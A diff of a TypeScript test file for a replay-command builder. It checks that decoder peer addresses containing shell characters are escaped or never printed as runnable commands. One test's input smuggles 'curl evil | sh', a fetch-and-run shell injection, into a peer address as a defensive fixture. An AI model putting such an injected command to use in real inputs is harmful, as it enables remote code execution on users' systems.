@@ -5,7 +5,7 @@ import {anExchangeLine, anHttpRecord} from '../test/journal-lines.ts';
 import {repeatLine} from './repeat-line.ts';
 
 const target: TargetFacts = {
-  peer: {address: 'exec:./my-decoder --line', name: 'd', version: '1', encodes: true},
+  peer: {address: 'line:exec:./my-decoder --line', name: 'd', version: '1', encodes: true},
   livePeer: {address: 'udp://[::1]:4242'},
 };
 const request = (changes: Partial<HttpExchangeRecord['request']>) =>
@@ -89,9 +89,17 @@ test.each([
 });
 
 test('a command with shell characters in a journal is never printed as a command', () => {
-  const peer = {address: 'exec:./d; curl evil | sh', name: 'd', version: '1', encodes: true};
+  const peer = {address: 'line:exec:./d; curl evil | sh', name: 'd', version: '1', encodes: true};
   expect(repeatLine(asked({}), {peer})).toBe(
     `printf '%s\\n' 'touchstone 1' '1 decode OverlayPing 0801' | "$YOUR_DECODER"`,
+  );
+});
+
+test('a decoder that speaks in frames is asked again by touchstone', () => {
+  const peer = {address: "exec:./d; it's", name: 'd', version: '1', encodes: true};
+  const line = asked({});
+  expect(repeatLine(line, {peer})).toBe(
+    `npx --no-install touchstone run --peer 'exec:./d; it'\\''s' --id ${line.case} --record all`,
   );
 });
 
